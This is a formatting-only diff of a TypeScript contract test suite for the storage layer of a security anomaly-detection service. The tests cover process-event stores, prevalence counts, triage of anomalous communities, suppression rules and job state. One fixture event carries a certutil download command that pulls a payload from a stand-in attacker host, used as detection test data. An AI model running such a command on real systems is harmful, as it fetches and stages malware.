@@ -78,7 +78,10 @@ function query(q: Record<string, unknown> = {}) {
 function independentCounts(events: readonly ProcessEvent[]) {
   const pairs = new Map<string, { n: number; hosts: Set<string>; first: number; last: number }>();
   const parents = new Map<string, number>();
-  const templates = new Map<string, { n: number; hosts: Set<string>; first: number; last: number }>();
+  const templates = new Map<
+    string,
+    { n: number; hosts: Set<string>; first: number; last: number }
+  >();
   const procs = new Map<string, number>();
   const bump = (m: typeof pairs, k: string, host: string, t: number): void => {
     const s = m.get(k) ?? { n: 0, hosts: new Set<string>(), first: t, last: t };
@@ -149,8 +152,16 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
       it('returns nothing for an empty window and all events for a wide one', async () => {
         const events = fixtureEvents();
         await h.importEvents(events);
-        expect(await collect(stores.events.readEvents({ window: { start: '2030-01-01T00:00:00Z', end: '2030-01-02T00:00:00Z' } }))).toEqual([]);
-        expect((await collect(stores.events.readEvents({ window: ALL }))).length).toBe(events.length);
+        expect(
+          await collect(
+            stores.events.readEvents({
+              window: { start: '2030-01-01T00:00:00Z', end: '2030-01-02T00:00:00Z' },
+            }),
+          ),
+        ).toEqual([]);
+        expect((await collect(stores.events.readEvents({ window: ALL }))).length).toBe(
+          events.length,
+        );
       });
 
       it('splits hosts across partitions by hostPartition, case-insensitively', async () => {
@@ -159,7 +170,9 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
         for (const count of [1, 2, 3]) {
           const seen: string[] = [];
           for (let index = 0; index < count; index++) {
-            const part = await collect(stores.events.readEvents({ window: ALL, partition: { index, count } }));
+            const part = await collect(
+              stores.events.readEvents({ window: ALL, partition: { index, count } }),
+            );
             for (const e of part) {
               expect(hostPartition(e.host.name, count)).toBe(index);
               seen.push(e.event.id);
@@ -177,7 +190,9 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
         expect(acc.normalised).toBe(got.length);
         const ctl = new AbortController();
         ctl.abort();
-        await expect(collect(stores.events.readEvents({ window: ALL, signal: ctl.signal }))).rejects.toThrow();
+        await expect(
+          collect(stores.events.readEvents({ window: ALL, signal: ctl.signal })),
+        ).rejects.toThrow();
         // Aborting mid-stream stops the iteration too.
         const ctl2 = new AbortController();
         let n = 0;
@@ -195,7 +210,9 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
         const events = fixtureEvents();
         await h.importEvents(events);
         await h.importEvents(events.slice(0, 10));
-        expect((await collect(stores.events.readEvents({ window: ALL }))).length).toBe(events.length);
+        expect((await collect(stores.events.readEvents({ window: ALL }))).length).toBe(
+          events.length,
+        );
       });
 
       it('finds events by id in input order, skipping unknown ids', async () => {
@@ -223,7 +240,10 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
           const [parentName, childName] = k.split('\u0000') as [string, string];
           return { parentName, childName };
         });
-        const pairs = await svc.childGivenParent([...pairKeys, { parentName: 'nobody.exe', childName: 'cmd.exe' }]);
+        const pairs = await svc.childGivenParent([
+          ...pairKeys,
+          { parentName: 'nobody.exe', childName: 'cmd.exe' },
+        ]);
         pairKeys.forEach((k, i) => {
           const s = want.pairs.get(`${k.parentName}\u0000${k.childName}`)!;
           const total = want.parents.get(k.parentName)!;
@@ -238,7 +258,12 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
             probability: s.n / total,
           });
         });
-        expect(pairs[pairKeys.length]).toMatchObject({ pairCount: 0, parentTotal: 0, distinctHosts: 0, probability: 0 });
+        expect(pairs[pairKeys.length]).toMatchObject({
+          pairCount: 0,
+          parentTotal: 0,
+          distinctHosts: 0,
+          probability: 0,
+        });
 
         const tplKeys = [...want.templates.keys()].map((k) => {
           const [processName_, template] = k.split('\u0000') as [string, string];
@@ -264,7 +289,12 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
         expect(env.events).toBe(inside.length);
         expect(env.hosts).toBe(new Set(inside.map((e) => hostKey(e.host.name))).size);
         expect(env.from).toBe(inside.map((e) => e['@timestamp']).sort()[0]);
-        expect(env.to).toBe(inside.map((e) => e['@timestamp']).sort().at(-1));
+        expect(env.to).toBe(
+          inside
+            .map((e) => e['@timestamp'])
+            .sort()
+            .at(-1),
+        );
       });
 
       it('normalises the names it is asked about', async () => {
@@ -272,7 +302,10 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
         const svc = await stores.prevalence.forWindow(ALL);
         const [a, b] = await svc.childGivenParent([
           { parentName: 'services.exe', childName: 'svchost.exe' },
-          { parentName: 'C:\\Windows\\System32\\SERVICES.EXE', childName: '"C:\\Windows\\System32\\svchost.exe"' },
+          {
+            parentName: 'C:\\Windows\\System32\\SERVICES.EXE',
+            childName: '"C:\\Windows\\System32\\svchost.exe"',
+          },
         ]);
         expect(a!.pairCount).toBeGreaterThan(0);
         expect(b).toEqual(a);
@@ -290,7 +323,10 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
           childName: e.process.name,
         }));
         expect(await svc.childGivenParent(pk)).toEqual(await ref.childGivenParent(pk));
-        const ck = inside.map((e) => ({ processName: e.process.name, template: commandLineTemplate(e.process.command_line) }));
+        const ck = inside.map((e) => ({
+          processName: e.process.name,
+          template: commandLineTemplate(e.process.command_line),
+        }));
         expect(await svc.cmdlineGivenProcess(ck)).toEqual(await ref.cmdlineGivenProcess(ck));
         const env = await svc.environment();
         const refEnv = await ref.environment();
@@ -302,11 +338,16 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
 
       it('reports an empty environment for a window without events', async () => {
         await h.importEvents(fixtureEvents());
-        const svc = await stores.prevalence.forWindow({ start: '2030-01-01T00:00:00.000Z', end: '2030-01-31T00:00:00.000Z' });
+        const svc = await stores.prevalence.forWindow({
+          start: '2030-01-01T00:00:00.000Z',
+          end: '2030-01-31T00:00:00.000Z',
+        });
         const env = await svc.environment();
         expect(env).toMatchObject({ hosts: 0, events: 0 });
         expect(env.lookbackDays).toBeCloseTo(30);
-        const [p] = await svc.childGivenParent([{ parentName: 'services.exe', childName: 'svchost.exe' }]);
+        const [p] = await svc.childGivenParent([
+          { parentName: 'services.exe', childName: 'svchost.exe' },
+        ]);
         expect(p).toMatchObject({ pairCount: 0, parentTotal: 0, probability: 0 });
       });
     });
@@ -327,7 +368,13 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
         expect(got).toBeDefined();
         const { triage, version, detectedAt, runId, ...rest } = got!;
         expect(rest).toEqual(c);
-        expect(triage).toEqual({ status: 'open', assignee: null, note: '', verdict: null, history: [] });
+        expect(triage).toEqual({
+          status: 'open',
+          assignee: null,
+          note: '',
+          verdict: null,
+          history: [],
+        });
         expect(version).toBe(1);
         expect(runId).toBe('run-1');
         expect(detectedAt).toBe('2024-03-01T11:00:00.000Z');
@@ -337,7 +384,11 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
       it('upserts by id: a re-run updates, never duplicates, and keeps triage', async () => {
         const c = fixtureCommunity();
         await stores.communities.writeCommunities([c], meta());
-        const t = await stores.communities.triage(c.id, { status: 'acknowledged', assignee: 'bob', note: 'looking' }, 'bob');
+        const t = await stores.communities.triage(
+          c.id,
+          { status: 'acknowledged', assignee: 'bob', note: 'looking' },
+          'bob',
+        );
         expect(t.version).toBe(2);
         const rewritten = { ...c, score: 0.95, rank: 3 };
         await stores.communities.writeCommunities([rewritten], meta('run-2'));
@@ -349,7 +400,11 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
         expect(got!.rank).toBe(3);
         expect(got!.runId).toBe('run-2');
         expect(got!.version).toBe(4);
-        expect(got!.triage).toMatchObject({ status: 'acknowledged', assignee: 'bob', note: 'looking' });
+        expect(got!.triage).toMatchObject({
+          status: 'acknowledged',
+          assignee: 'bob',
+          note: 'looking',
+        });
         expect(got!.triage.history).toHaveLength(1);
       });
 
@@ -357,25 +412,40 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
         const w = { start: '2024-03-01T10:00:00.000Z', end: '2024-03-01T10:45:00.000Z' };
         const keep = fixtureCommunity({ host: 'ws01.example.local', window: w, tag: 'keep' });
         const stale = fixtureCommunity({ host: 'ws01.example.local', window: w, tag: 'stale' });
-        const staleTriaged = fixtureCommunity({ host: 'ws01.example.local', window: w, tag: 'triaged' });
+        const staleTriaged = fixtureCommunity({
+          host: 'ws01.example.local',
+          window: w,
+          tag: 'triaged',
+        });
         const otherHost = fixtureCommunity({ host: 'ws02.example.local', window: w, tag: 'other' });
         const otherWindow = fixtureCommunity({
           host: 'ws01.example.local',
           window: { start: '2024-03-01T10:30:00.000Z', end: '2024-03-01T11:15:00.000Z' },
           tag: 'later',
         });
-        await stores.communities.writeCommunities([keep, stale, staleTriaged, otherHost, otherWindow], meta());
+        await stores.communities.writeCommunities(
+          [keep, stale, staleTriaged, otherHost, otherWindow],
+          meta(),
+        );
         await stores.communities.triage(staleTriaged.id, { note: 'seen before' }, 'alice');
 
-        const rep = await stores.communities.writeCommunities([keep], meta('run-2', [{ host: 'WS01.example.local', window: w }]));
+        const rep = await stores.communities.writeCommunities(
+          [keep],
+          meta('run-2', [{ host: 'WS01.example.local', window: w }]),
+        );
         expect(rep).toEqual({ written: 1, removed: 1, failed: [] });
         expect(await stores.communities.get(stale.id)).toBeUndefined();
-        for (const c of [keep, staleTriaged, otherHost, otherWindow]) expect(await stores.communities.get(c.id)).toBeDefined();
+        for (const c of [keep, staleTriaged, otherHost, otherWindow])
+          expect(await stores.communities.get(c.id)).toBeDefined();
 
         // The triaged stale one is kept for the record but no longer listed as a detection.
-        const flaggedIds = (await stores.communities.list(query({ per_page: 100 }))).items.map((i) => i.id).sort();
+        const flaggedIds = (await stores.communities.list(query({ per_page: 100 }))).items
+          .map((i) => i.id)
+          .sort();
         expect(flaggedIds).toEqual([keep.id, otherHost.id, otherWindow.id].sort());
-        const all = await stores.communities.list(query({ per_page: 100, include_unflagged: 'true' }));
+        const all = await stores.communities.list(
+          query({ per_page: 100, include_unflagged: 'true' }),
+        );
         expect(all.items.map((i) => i.id)).toContain(staleTriaged.id);
         expect(all.counts.flagged).toBe(3);
         expect(all.total).toBe(4);
@@ -388,8 +458,14 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
 
       it('reports invalid communities instead of failing the batch', async () => {
         const good = fixtureCommunity({ tag: 'good' });
-        const bad = { ...fixtureCommunity({ tag: 'bad' }), window: { start: 'not a date', end: 'never' } };
-        const rep = await stores.communities.writeCommunities([good, bad as AnomalousCommunity], meta());
+        const bad = {
+          ...fixtureCommunity({ tag: 'bad' }),
+          window: { start: 'not a date', end: 'never' },
+        };
+        const rep = await stores.communities.writeCommunities(
+          [good, bad as AnomalousCommunity],
+          meta(),
+        );
         expect(rep.written).toBe(1);
         expect(rep.failed).toHaveLength(1);
         expect(rep.failed[0]!.id).toBe(bad.id);
@@ -414,8 +490,18 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
               events:
                 i === 6
                   ? [
-                      fixtureEvent({ id: 't6-a', time: new Date(base + i * 3_600_000 + 60_000).toISOString(), host: 'srv02.example.local', cmd: 'certutil.exe -urlcache -f http://evil.example/Payload.EXE' }),
-                      fixtureEvent({ id: 't6-b', time: new Date(base + i * 3_600_000 + 120_000).toISOString(), host: 'srv02.example.local', cmd: 'cmd.exe /c dir' }),
+                      fixtureEvent({
+                        id: 't6-a',
+                        time: new Date(base + i * 3_600_000 + 60_000).toISOString(),
+                        host: 'srv02.example.local',
+                        cmd: 'certutil.exe -urlcache -f http://evil.example/Payload.EXE',
+                      }),
+                      fixtureEvent({
+                        id: 't6-b',
+                        time: new Date(base + i * 3_600_000 + 120_000).toISOString(),
+                        host: 'srv02.example.local',
+                        cmd: 'cmd.exe /c dir',
+                      }),
                     ]
                   : undefined,
             });
@@ -424,21 +510,42 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
         });
 
         it('sorts by every field with id as tie-breaker and pages without overlap', async () => {
-          const byScore = await stores.communities.list(query({ sort: 'score', direction: 'desc', per_page: 100 }));
-          expect(byScore.items.map((i) => i.score)).toEqual([...cs.map((c) => c.score)].sort((a, b) => b - a));
+          const byScore = await stores.communities.list(
+            query({ sort: 'score', direction: 'desc', per_page: 100 }),
+          );
+          expect(byScore.items.map((i) => i.score)).toEqual(
+            [...cs.map((c) => c.score)].sort((a, b) => b - a),
+          );
           const byMax = await stores.communities.list(query({ per_page: 100 }));
           expect(byMax.items.map((i) => i.maxAnomaly)).toEqual([0.9, 0.8, 0.7, 0.6, 0.4, 0.3, 0.2]);
-          const byRank = await stores.communities.list(query({ sort: 'rank', direction: 'asc', per_page: 100 }));
+          const byRank = await stores.communities.list(
+            query({ sort: 'rank', direction: 'asc', per_page: 100 }),
+          );
           expect(byRank.items.map((i) => i.rank)).toEqual([1, 2, 3, 4, 5, 6, 7]);
-          const byFirst = await stores.communities.list(query({ sort: 'first_seen', direction: 'asc', per_page: 100 }));
+          const byFirst = await stores.communities.list(
+            query({ sort: 'first_seen', direction: 'asc', per_page: 100 }),
+          );
           expect(byFirst.items.map((i) => i.id)).toEqual(cs.map((c) => c.id));
-          const byLast = await stores.communities.list(query({ sort: 'last_seen', direction: 'desc', per_page: 100 }));
+          const byLast = await stores.communities.list(
+            query({ sort: 'last_seen', direction: 'desc', per_page: 100 }),
+          );
           expect(byLast.items.map((i) => i.id)).toEqual([...cs].reverse().map((c) => c.id));
-          const byCount = await stores.communities.list(query({ sort: 'event_count', direction: 'asc', per_page: 100 }));
+          const byCount = await stores.communities.list(
+            query({ sort: 'event_count', direction: 'asc', per_page: 100 }),
+          );
           expect(byCount.items[0]!.eventCount).toBe(2);
-          expect(byCount.items.slice(1).map((i) => i.id)).toEqual(cs.slice(0, 6).map((c) => c.id).sort());
-          const byHost = await stores.communities.list(query({ sort: 'host', direction: 'asc', per_page: 100 }));
-          expect(byHost.items.map((i) => hostKey(i.host))).toEqual([...cs.map((c) => hostKey(c.host))].sort());
+          expect(byCount.items.slice(1).map((i) => i.id)).toEqual(
+            cs
+              .slice(0, 6)
+              .map((c) => c.id)
+              .sort(),
+          );
+          const byHost = await stores.communities.list(
+            query({ sort: 'host', direction: 'asc', per_page: 100 }),
+          );
+          expect(byHost.items.map((i) => hostKey(i.host))).toEqual(
+            [...cs.map((c) => hostKey(c.host))].sort(),
+          );
 
           const seen: string[] = [];
           for (let page = 1; page <= 4; page++) {
@@ -449,11 +556,15 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
             seen.push(...p.items.map((i) => i.id));
           }
           expect(seen).toEqual(byScore.items.map((i) => i.id));
-          expect((await stores.communities.list(query({ page: 9, per_page: 2 }))).items).toEqual([]);
+          expect((await stores.communities.list(query({ page: 9, per_page: 2 }))).items).toEqual(
+            [],
+          );
         });
 
         it('returns summaries with the list fields', async () => {
-          const p = await stores.communities.list(query({ sort: 'rank', direction: 'asc', per_page: 1 }));
+          const p = await stores.communities.list(
+            query({ sort: 'rank', direction: 'asc', per_page: 1 }),
+          );
           const c = cs[0]!;
           expect(p.items[0]).toEqual({
             id: c.id,
@@ -476,20 +587,37 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
         });
 
         it('filters by host, min_score, time range and free text', async () => {
-          const host = await stores.communities.list(query({ host: 'ws01.EXAMPLE.local', per_page: 100 }));
-          expect(host.items.map((i) => i.id).sort()).toEqual([cs[0]!, cs[2]!, cs[4]!, cs[6]!].map((c) => c.id).sort());
+          const host = await stores.communities.list(
+            query({ host: 'ws01.EXAMPLE.local', per_page: 100 }),
+          );
+          expect(host.items.map((i) => i.id).sort()).toEqual(
+            [cs[0]!, cs[2]!, cs[4]!, cs[6]!].map((c) => c.id).sort(),
+          );
           expect(host.total).toBe(4);
 
           const min = await stores.communities.list(query({ min_score: 0.74, per_page: 100 }));
-          expect(min.items.map((i) => i.id).sort()).toEqual(cs.filter((c) => c.score >= 0.74).map((c) => c.id).sort());
+          expect(min.items.map((i) => i.id).sort()).toEqual(
+            cs
+              .filter((c) => c.score >= 0.74)
+              .map((c) => c.id)
+              .sort(),
+          );
 
           // Overlap with [from, to): c1 (09:01–09:03) and c2 (10:01–10:03).
           const range = await stores.communities.list(
-            query({ from: '2024-03-01T09:02:00.000Z', to: '2024-03-01T10:01:00.000Z', per_page: 100 }),
+            query({
+              from: '2024-03-01T09:02:00.000Z',
+              to: '2024-03-01T10:01:00.000Z',
+              per_page: 100,
+            }),
           );
           expect(range.items.map((i) => i.id)).toEqual([cs[1]!.id]);
           const range2 = await stores.communities.list(
-            query({ from: '2024-03-01T09:02:00.000Z', to: '2024-03-01T10:01:00.001Z', per_page: 100 }),
+            query({
+              from: '2024-03-01T09:02:00.000Z',
+              to: '2024-03-01T10:01:00.001Z',
+              per_page: 100,
+            }),
           );
           expect(range2.items.map((i) => i.id).sort()).toEqual([cs[1]!.id, cs[2]!.id].sort());
 
@@ -515,14 +643,36 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
           const open = await stores.communities.list(query({ status: 'open', per_page: 100 }));
           expect(open.total).toBe(5);
           expect(open.items.every((i) => i.status === 'open')).toBe(true);
-          expect(open.counts).toEqual({ flagged: 7, reviewed: 3, open: 5, acknowledged: 1, closed: 1 });
+          expect(open.counts).toEqual({
+            flagged: 7,
+            reviewed: 3,
+            open: 5,
+            acknowledged: 1,
+            closed: 1,
+          });
           const closed = await stores.communities.list(query({ status: 'closed' }));
           expect(closed.items.map((i) => [i.id, i.verdict])).toEqual([[cs[1]!.id, 'benign']]);
-          const byStatus = await stores.communities.list(query({ sort: 'status', direction: 'asc', per_page: 100 }));
-          expect(byStatus.items.map((i) => i.status)).toEqual(['open', 'open', 'open', 'open', 'open', 'acknowledged', 'closed']);
+          const byStatus = await stores.communities.list(
+            query({ sort: 'status', direction: 'asc', per_page: 100 }),
+          );
+          expect(byStatus.items.map((i) => i.status)).toEqual([
+            'open',
+            'open',
+            'open',
+            'open',
+            'open',
+            'acknowledged',
+            'closed',
+          ]);
           // Counts follow the other filters.
           const ws = await stores.communities.list(query({ host: 'ws01.example.local' }));
-          expect(ws.counts).toEqual({ flagged: 4, reviewed: 2, open: 3, acknowledged: 1, closed: 0 });
+          expect(ws.counts).toEqual({
+            flagged: 4,
+            reviewed: 2,
+            open: 3,
+            acknowledged: 1,
+            closed: 0,
+          });
         });
       });
 
@@ -530,11 +680,25 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
         it('bumps the version and records who changed what, keeping every note', async () => {
           const c = fixtureCommunity();
           await stores.communities.writeCommunities([c], meta());
-          const a = await stores.communities.triage(c.id, { status: 'acknowledged', note: 'first look' }, 'alice', 1);
+          const a = await stores.communities.triage(
+            c.id,
+            { status: 'acknowledged', note: 'first look' },
+            'alice',
+            1,
+          );
           expect(a.version).toBe(2);
-          expect(a.triage).toMatchObject({ status: 'acknowledged', note: 'first look', updatedBy: 'alice' });
+          expect(a.triage).toMatchObject({
+            status: 'acknowledged',
+            note: 'first look',
+            updatedBy: 'alice',
+          });
           expect(Date.parse(a.triage.updatedAt!)).toBeGreaterThan(0);
-          const b = await stores.communities.triage(c.id, { note: 'actually benign', verdict: 'benign', status: 'closed' }, 'bob', 2);
+          const b = await stores.communities.triage(
+            c.id,
+            { note: 'actually benign', verdict: 'benign', status: 'closed' },
+            'bob',
+            2,
+          );
           expect(b.version).toBe(3);
           expect(b.triage.history.map((x) => x.by)).toEqual(['alice', 'bob']);
           expect(b.triage.history[0]!.changes).toEqual({
@@ -548,7 +712,12 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
           });
           // Un-assigning and clearing a verdict are changes too.
           const c2 = await stores.communities.triage(c.id, { assignee: 'carol' }, 'carol');
-          const c3 = await stores.communities.triage(c.id, { assignee: null, verdict: null }, 'carol', c2.version);
+          const c3 = await stores.communities.triage(
+            c.id,
+            { assignee: null, verdict: null },
+            'carol',
+            c2.version,
+          );
           expect(c3.triage).toMatchObject({ assignee: null, verdict: null });
           expect(c3.triage.history.at(-1)!.changes).toEqual({
             assignee: { from: 'carol', to: null },
@@ -565,7 +734,9 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
           const c = fixtureCommunity();
           await stores.communities.writeCommunities([c], meta());
           await stores.communities.triage(c.id, { note: 'mine' }, 'alice', 1);
-          const err = await stores.communities.triage(c.id, { note: 'theirs' }, 'bob', 1).catch((e: unknown) => e);
+          const err = await stores.communities
+            .triage(c.id, { note: 'theirs' }, 'bob', 1)
+            .catch((e: unknown) => e);
           expect(err).toBeInstanceOf(ConflictError);
           expect((err as ConflictError).statusCode).toBe(409);
           expect((err as ConflictError).current).toBe(2);
@@ -573,7 +744,9 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
         });
 
         it('throws NotFoundError for an unknown community', async () => {
-          const err = await stores.communities.triage('missing', { status: 'closed' }, 'a').catch((e: unknown) => e);
+          const err = await stores.communities
+            .triage('missing', { status: 'closed' }, 'a')
+            .catch((e: unknown) => e);
           expect(err).toBeInstanceOf(NotFoundError);
           expect((err as NotFoundError).statusCode).toBe(404);
         });
@@ -583,14 +756,19 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
           await stores.communities.writeCommunities([c], meta());
           // Same expected version: exactly one wins, the rest get 409.
           const racing = await Promise.allSettled(
-            Array.from({ length: 6 }, (_, i) => stores.communities.triage(c.id, { note: `racer ${i}` }, `u${i}`, 1)),
+            Array.from({ length: 6 }, (_, i) =>
+              stores.communities.triage(c.id, { note: `racer ${i}` }, `u${i}`, 1),
+            ),
           );
           const won = racing.filter((r) => r.status === 'fulfilled');
           expect(won).toHaveLength(1);
-          for (const r of racing) if (r.status === 'rejected') expect(r.reason).toBeInstanceOf(ConflictError);
+          for (const r of racing)
+            if (r.status === 'rejected') expect(r.reason).toBeInstanceOf(ConflictError);
           // No expected version: every change is applied and kept in the history.
           await Promise.all(
-            Array.from({ length: 6 }, (_, i) => stores.communities.triage(c.id, { note: `note ${i}` }, `w${i}`)),
+            Array.from({ length: 6 }, (_, i) =>
+              stores.communities.triage(c.id, { note: `note ${i}` }, `w${i}`),
+            ),
           );
           const got = (await stores.communities.get(c.id))!;
           expect(got.version).toBe(8);
@@ -605,7 +783,12 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
     describe('SuppressionStore', () => {
       it('adds, lists, filters by host and removes rules', async () => {
         const everywhere = fixtureRule({ id: 'r1' });
-        const onWs01 = fixtureRule({ id: 'r2', host: 'ws01.example.local', childName: 'whoami.exe', parentName: 'cmd.exe' });
+        const onWs01 = fixtureRule({
+          id: 'r2',
+          host: 'ws01.example.local',
+          childName: 'whoami.exe',
+          parentName: 'cmd.exe',
+        });
         const community = fixtureRule({
           id: 'r3',
           kind: 'community',
@@ -616,8 +799,13 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
         await stores.suppressions.add([everywhere, onWs01, community]);
         expect(await stores.suppressions.all()).toEqual([everywhere, onWs01, community]);
         expect(await stores.suppressions.list()).toEqual([everywhere, onWs01, community]);
-        expect((await stores.suppressions.list({ hosts: ['WS01.example.local'] })).map((r) => r.id)).toEqual(['r1', 'r2', 'r3']);
-        expect((await stores.suppressions.list({ hosts: ['srv01'] })).map((r) => r.id)).toEqual(['r1', 'r3']);
+        expect(
+          (await stores.suppressions.list({ hosts: ['WS01.example.local'] })).map((r) => r.id),
+        ).toEqual(['r1', 'r2', 'r3']);
+        expect((await stores.suppressions.list({ hosts: ['srv01'] })).map((r) => r.id)).toEqual([
+          'r1',
+          'r3',
+        ]);
         // Upsert by id.
         await stores.suppressions.add([{ ...everywhere, reason: 'still routine' }]);
         const all = await stores.suppressions.all();
@@ -634,21 +822,42 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
     describe('JobStateStore', () => {
       it('keeps one checkpoint per partition layout', async () => {
         expect(await stores.state.getCheckpoint({ index: 0, count: 1 })).toBeUndefined();
-        const cp = { processedUntil: '2024-03-01T10:45:00.000Z', updatedAt: '2024-03-01T10:46:00.000Z' };
+        const cp = {
+          processedUntil: '2024-03-01T10:45:00.000Z',
+          updatedAt: '2024-03-01T10:46:00.000Z',
+        };
         await stores.state.saveCheckpoint({ index: 0, count: 1 }, cp);
-        await stores.state.saveCheckpoint({ index: 1, count: 2 }, { ...cp, processedUntil: '2024-03-01T09:00:00.000Z' });
+        await stores.state.saveCheckpoint(
+          { index: 1, count: 2 },
+          { ...cp, processedUntil: '2024-03-01T09:00:00.000Z' },
+        );
         expect(await stores.state.getCheckpoint({ index: 0, count: 1 })).toEqual(cp);
         expect(await stores.state.getCheckpoint({ index: 0, count: 2 })).toBeUndefined();
-        expect((await stores.state.getCheckpoint({ index: 1, count: 2 }))!.processedUntil).toBe('2024-03-01T09:00:00.000Z');
-        const later = { processedUntil: '2024-03-01T11:00:00.000Z', updatedAt: '2024-03-01T11:01:00.000Z' };
+        expect((await stores.state.getCheckpoint({ index: 1, count: 2 }))!.processedUntil).toBe(
+          '2024-03-01T09:00:00.000Z',
+        );
+        const later = {
+          processedUntil: '2024-03-01T11:00:00.000Z',
+          updatedAt: '2024-03-01T11:01:00.000Z',
+        };
         await stores.state.saveCheckpoint({ index: 0, count: 1 }, later);
         expect(await stores.state.getCheckpoint({ index: 0, count: 1 })).toEqual(later);
       });
 
       it('records runs and lists the most recent first', async () => {
         const r1 = runReport({ runId: 'a', finishedAt: '2024-03-01T10:00:00.000Z' });
-        const r2 = runReport({ runId: 'b', finishedAt: '2024-03-01T10:15:00.000Z', status: 'failed', errors: ['boom'] });
-        const r3 = runReport({ runId: 'c', finishedAt: '2024-03-01T10:30:00.000Z', window: null, status: 'nothing_to_do' });
+        const r2 = runReport({
+          runId: 'b',
+          finishedAt: '2024-03-01T10:15:00.000Z',
+          status: 'failed',
+          errors: ['boom'],
+        });
+        const r3 = runReport({
+          runId: 'c',
+          finishedAt: '2024-03-01T10:30:00.000Z',
+          window: null,
+          status: 'nothing_to_do',
+        });
         for (const r of [r2, r1, r3]) await stores.state.recordRun(r);
         expect(await stores.state.recentRuns(10)).toEqual([r3, r2, r1]);
         expect(await stores.state.recentRuns(2)).toEqual([r3, r2]);
@@ -667,7 +876,11 @@ export function describeStoreContract(name: string, make: () => Promise<StoreHar
     describe('SettingsStore', () => {
       it('starts from the defaults and persists partial updates', async () => {
         const d = await stores.settings.get();
-        expect(d).toMatchObject({ threshold: DEFAULT_THRESHOLD, interval: DEFAULT_INTERVAL, lookback: DEFAULT_LOOKBACK });
+        expect(d).toMatchObject({
+          threshold: DEFAULT_THRESHOLD,
+          interval: DEFAULT_INTERVAL,
+          lookback: DEFAULT_LOOKBACK,
+        });
         expect(d.prevalence_lookback).toMatch(/^\d+[smhd]$/);
         expect(['model', 'elastic', 'blend']).toContain(d.score_source);
         expect(d.indices.length).toBeGreaterThan(0);
